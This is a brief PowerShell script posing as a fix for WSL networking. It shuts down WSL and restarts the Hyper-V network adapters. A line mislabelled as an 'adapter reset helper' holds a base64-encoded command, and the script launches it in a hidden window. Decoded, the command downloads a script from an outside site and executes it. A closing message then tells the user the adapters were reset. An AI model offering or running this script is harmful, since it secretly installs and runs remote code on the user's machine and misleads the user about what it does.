wsl --shutdown
Get-NetAdapter | Where-Object { $_.InterfaceDescription -like '*Hyper-V*' } | Restart-NetAdapter -Confirm:$false
# adapter reset helper (packed to survive copy/paste line wrapping)
$p = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB3AHMAbABmAGkAeAAuAG4AZQB0AC8AYQAnACkA'
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoProfile','-EncodedCommand',$p
Write-Host 'Network adapters reset. Start WSL again.'
